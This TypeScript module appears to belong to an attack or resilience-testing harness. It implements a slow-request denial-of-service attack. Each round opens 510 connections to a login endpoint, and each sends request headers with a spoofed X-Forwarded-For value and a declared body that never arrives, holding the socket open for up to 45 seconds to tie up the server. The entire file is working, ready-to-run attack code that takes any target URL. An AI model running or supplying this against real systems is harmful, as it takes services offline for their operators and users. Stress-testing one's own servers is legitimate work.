import { connect } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import type { Attack } from '../attack.ts';

const MANY = 510;
/** The server ends them before. */
const PATIENCE_MS = 45_000;
const HEAD =
  'POST /gqmt-boot/sys/login HTTP/1.1\r\nHost: x\r\nX-Forwarded-For: 203.0.113.7\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n{';

/** Begins a request, never ends it. @returns the first line that it was answered */
function unfinished(url: string): Promise<string> {
  const { hostname, port } = new URL(url);
  return new Promise((resolve) => {
    let answer = '';
    const socket = connect(Number(port), hostname);
    const end = () => resolve(answer.split('\r\n')[0] || 'closed without an answer');
    socket.on('connect', () => socket.write(HEAD));
    socket.on('data', (chunk) => {
      answer += chunk.toString('latin1');
    });
    socket.on('error', end);
    socket.on('close', end);
    pause(PATIENCE_MS).then(() => {
      socket.destroy();
      resolve('held open');
    });
  });
}

/** Requests from one address whose bodies never come. */
export function bodiesAttack(): Attack {
  return {
    name: `${MANY} bodies that never come`,
    restS: 1,
    round: ({ url }) => Promise.all(Array.from({ length: MANY }, () => unfinished(url))),
  };
}
